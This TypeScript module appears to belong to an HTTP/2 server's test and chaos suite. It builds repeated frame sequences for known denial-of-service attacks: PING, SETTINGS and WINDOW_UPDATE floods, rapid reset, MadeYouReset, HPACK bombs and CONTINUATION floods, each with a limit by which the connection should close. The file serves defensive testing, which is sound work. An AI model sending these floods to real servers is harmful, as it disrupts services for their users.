/**
 * Attacks on an HTTP/2 server, each as the frames of one unit that is repeated (facts: the advisories from CVE-2019-9511 to
 * those of 2026). For the tests and for `npm run chaos`; those that take time are in slow-attacks.ts.
 */
import { requestFields, type Http2Client } from './client.ts'
import {
  continuationFrame,
  dataFrame,
  frame,
  goAwayFrame,
  headersFrame,
  pingFrame,
  priorityFrame,
  resetFrame,
  SETTING,
  settingsFrame,
  TYPE,
  windowUpdateFrame,
} from './frames.ts'
import { block, indexed, literal, tableSize } from './hpack.ts'
import type { PeerOptions } from './peer.ts'

export interface Attack {
  readonly name: string
  /** Of its connection. */
  readonly options?: PeerOptions
  start(client: Http2Client): AttackRun
  /** By how many units the connection has ended. */
  readonly most: number
}

export interface AttackRun {
  /** Sent once. */
  readonly first: readonly Buffer[]
  /** One more unit. */
  next(): readonly Buffer[]
}

const GET = block(...requestFields())
const POST = block(...requestFields({ method: 'POST' }))
/** What is charged once a unit, and what five times. */
const MOST = 600
const MOST_PROVOKED = 200
/** Of heads that take thousands of steps. */
const MOST_COSTLY = 50

/** So many requests are at servers by the time they are reset. */
const IN_FLIGHT = 50

type Start = Attack['start']

/** Units of the connection, or of streams that each opens anew. */
function each(unit: (client: Http2Client) => readonly Buffer[]): Start {
  return (client) => ({ first: [], next: () => unit(client) })
}

/** Units that each open a stream, whose request goes on, and act on it. */
function eachOpened(unit: (id: number) => readonly Buffer[]): Start {
  return each((client) => {
    const id = client.nextId()
    return [headersFrame(id, POST), ...unit(id)]
  })
}

/** Units that each open a stream with a whole request, and act on it. */
function eachWhole(unit: (id: number) => readonly Buffer[] = () => []): Start {
  return each((client) => {
    const id = client.nextId()
    return [headersFrame(id, GET, { end: true }), ...unit(id)]
  })
}

/** Units on one stream that is open. */
function onOne(unit: (id: number) => readonly Buffer[]): Start {
  return (client) => {
    const id = client.nextId()
    return { first: [headersFrame(id, POST)], next: () => unit(id) }
  }
}

/** Units that refer to an entry that the first request put into the table. */
function withEntry(name: string, value: string, unit: (id: number) => readonly Buffer[]): Start {
  return (client) => {
    const entry = literal(name, value, { indexing: 'incremental' })
    const head = Buffer.concat([GET, entry])
    return {
      first: [headersFrame(client.nextId(), head, { end: true })],
      next: () => unit(client.nextId()),
    }
  }
}

const RESIZED_GET = Buffer.concat([
  ...Array.from({ length: 4_000 }, () => Buffer.concat([tableSize(0), tableSize(4_096)])),
  GET,
])
const REFERENCES = Buffer.alloc(16_000, indexed(62))

function bomb(id: number): Buffer[] {
  return [headersFrame(id, Buffer.concat([GET, REFERENCES]), { end: true })]
}

export const FLOODS: readonly Attack[] = [
  { name: 'PING flood (CVE-2019-9512)', start: each(() => [pingFrame()]), most: MOST },
  {
    name: 'SETTINGS flood (CVE-2019-9515)',
    start: each(() => [settingsFrame([SETTING.initialWindowSize, 65_535])]),
    most: MOST,
  },
  {
    name: 'empty SETTINGS flood (CVE-2019-9515)',
    start: each(() => [settingsFrame()]),
    most: MOST,
  },
  {
    name: 'PRIORITY flood (CVE-2019-9513)',
    start: each(() => [priorityFrame(1, { dependsOn: 3 })]),
    most: MOST,
  },
  {
    name: 'flood of unknown frames',
    start: each(() => [frame(0x16, 0, 0, Buffer.alloc(8))]),
    most: MOST,
  },
  { name: 'GOAWAY flood', start: each(() => [goAwayFrame()]), most: MOST },
  {
    name: 'empty DATA flood (CVE-2019-9518)',
    start: onOne((id) => [dataFrame(id, '')]),
    most: MOST,
  },
  {
    name: 'flood of DATA that is all padding (CVE-2019-9518)',
    start: onOne((id) => [dataFrame(id, '', { padding: 0 })]),
    most: MOST,
  },
  {
    name: 'WINDOW_UPDATE flood on the connection',
    start: each(() => [windowUpdateFrame(0, 1)]),
    most: MOST,
  },
  {
    name: 'WINDOW_UPDATE flood on a stream (CVE-2019-9511)',
    start: onOne((id) => [windowUpdateFrame(id, 1)]),
    most: MOST,
  },
  {
    name: 'flood of RST_STREAM on closed streams',
    start: (client) => {
      const id = client.nextId()
      return { first: [headersFrame(id, GET, { end: true })], next: () => [resetFrame(id)] }
    },
    most: MOST,
  },
  {
    name: 'rapid reset (CVE-2023-44487)',
    start: eachWhole((id) => [resetFrame(id)]),
    most: MOST,
  },
  {
    name: 'rapid reset of requests that are under way (CVE-2023-44487)',
    start: (client) => {
      const open: number[] = []
      const next = (): readonly Buffer[] => {
        const id = client.nextId()
        open.push(id)
        const old = open.length > IN_FLIGHT ? open.shift() : undefined
        const request = headersFrame(id, GET, { end: true })
        return old === undefined ? [request] : [resetFrame(old), request]
      }
      return { first: [], next }
    },
    most: MOST,
  },
  {
    name: 'rapid reset of requests that go on (CVE-2023-44487)',
    start: eachOpened((id) => [dataFrame(id, 'a'), resetFrame(id)]),
    most: MOST,
  },
  {
    name: 'flood of malformed requests (CVE-2019-9514)',
    start: each((client) => [
      headersFrame(client.nextId(), block(...requestFields({ fields: [['connection', 'close']] }))),
    ]),
    most: MOST_PROVOKED,
  },
  {
    name: 'flood of empty names (CVE-2019-9516)',
    start: each((client) => {
      const empty = literal('', '', { indexing: 'never' })
      const head = Buffer.concat([GET, ...Array.from({ length: 50 }, () => empty)])
      return [headersFrame(client.nextId(), head, { end: true })]
    }),
    most: MOST_PROVOKED,
  },
  {
    name: 'MadeYouReset by WINDOW_UPDATE of 0 (CVE-2025-8671)',
    start: eachOpened((id) => [windowUpdateFrame(id, 0)]),
    most: MOST_PROVOKED,
  },
  {
    name: 'MadeYouReset by a window above 2^31 - 1 (CVE-2025-8671)',
    start: eachOpened((id) => [windowUpdateFrame(id, 2 ** 31 - 1)]),
    most: MOST_PROVOKED,
  },
  {
    name: 'MadeYouReset by PRIORITY of a wrong length (CVE-2025-8671)',
    start: eachOpened((id) => [frame(TYPE.priority, 0, id, Buffer.alloc(4))]),
    most: MOST_PROVOKED,
  },
  {
    name: 'MadeYouReset by DATA on a half-closed stream (CVE-2025-8671)',
    start: eachWhole((id) => [dataFrame(id, 'a')]),
    most: MOST_PROVOKED,
  },
  {
    name: 'MadeYouReset by HEADERS on a half-closed stream (CVE-2025-8671)',
    start: eachWhole((id) => [headersFrame(id, GET, { end: true })]),
    most: MOST_PROVOKED,
  },
  {
    name: 'MadeYouReset by a body beyond its length (CVE-2025-8671)',
    start: each((client) => {
      const id = client.nextId()
      const fields = requestFields({ method: 'POST', fields: [['content-length', '1']] })
      return [headersFrame(id, block(...fields)), dataFrame(id, 'ab')]
    }),
    most: MOST_PROVOKED,
  },
  {
    name: 'MadeYouReset by malformed trailers (CVE-2025-8671)',
    start: eachOpened((id) => [headersFrame(id, block([':path', '/']), { end: true })]),
    most: MOST_PROVOKED,
  },
  {
    name: 'flood of streams beyond the limit, which stay open',
    options: { settings: [[SETTING.initialWindowSize, 0]] },
    start: eachWhole(),
    most: MOST,
  },
  {
    name: 'flood of table size updates before each head',
    // RFC 7541 section 4.2: there are two at most.
    start: each((client) => [headersFrame(client.nextId(), RESIZED_GET, { end: true })]),
    most: MOST_COSTLY,
  },
  {
    name: 'HPACK bomb of one large entry (CVE-2016-6581)',
    start: withEntry('x-bomb', 'b'.repeat(3_900), bomb),
    most: MOST_COSTLY,
  },
  {
    name: 'HTTP/2 bomb of thousands of small entries (2026)',
    start: withEntry('a', 'b', bomb),
    most: MOST_COSTLY,
  },
  {
    name: 'HTTP/2 bomb of thousands of crumbs (2026)',
    start: withEntry('cookie', 'a', bomb),
    most: MOST_COSTLY,
  },
  {
    name: 'HTTP/2 bomb in trailers (2026)',
    start: withEntry('a', 'b', (id) => [
      headersFrame(id, POST),
      headersFrame(id, REFERENCES, { end: true }),
    ]),
    most: MOST_COSTLY,
  },
]

const TINY = dataFrame(1, 'a')
const PADDED = dataFrame(1, 'a', { padding: 255 })

/** Whole requests and bodies that are legal, in pieces that cost the most: they are to be borne, not cut off. */
export const FRAGMENTS: readonly Omit<Attack, 'most'>[] = [
  { name: 'DATA of a byte each', start: withinCredit(TINY) },
  { name: 'DATA of a byte each with 255 of padding', start: withinCredit(PADDED) },
]

/** One body of such frames, as far as the windows let it. */
function withinCredit(unit: Buffer): Start {
  return (client) => {
    const id = client.nextId()
    return {
      first: [headersFrame(id, POST)],
      next: () => (client.takeCredit(id, unit.length - 9) ? [unit] : []),
    }
  }
}

/** A header block that never ends; a unit is one CONTINUATION. */
function inBlock(unit: (id: number) => Buffer, head: (id: number) => readonly Buffer[]): Start {
  return (client) => {
    const id = client.nextId()
    return { first: head(id), next: () => [unit(id)] }
  }
}

const openRequest = (id: number): Buffer[] => [headersFrame(id, GET, { end: true, open: true })]
const FIELD = block(['x-a', 'b'])
const oneField = (id: number): Buffer => continuationFrame(id, FIELD, { open: true })

export const BLOCKS: readonly Attack[] = [
  { name: 'CONTINUATION flood (2024)', start: inBlock(oneField, openRequest), most: 100 },
  {
    name: 'CONTINUATION flood of large frames (2024)',
    start: inBlock(
      (id) => continuationFrame(id, block(['x-a', 'b'.repeat(16_000)]), { open: true }),
      openRequest,
    ),
    most: 100,
  },
  {
    name: 'CONTINUATION flood of empty frames (2024)',
    start: inBlock((id) => continuationFrame(id, '', { open: true }), openRequest),
    most: 100,
  },
  {
    name: 'CONTINUATION flood on a stream that is half-closed (2024)',
    start: inBlock(oneField, (id) => [headersFrame(id, GET, { end: true }), ...openRequest(id)]),
    most: 100,
  },
  {
    name: 'CONTINUATION flood in trailers (2024)',
    start: inBlock(oneField, (id) => [
      headersFrame(id, POST),
      headersFrame(id, FIELD, { end: true, open: true }),
    ]),
    most: 100,
  },
]
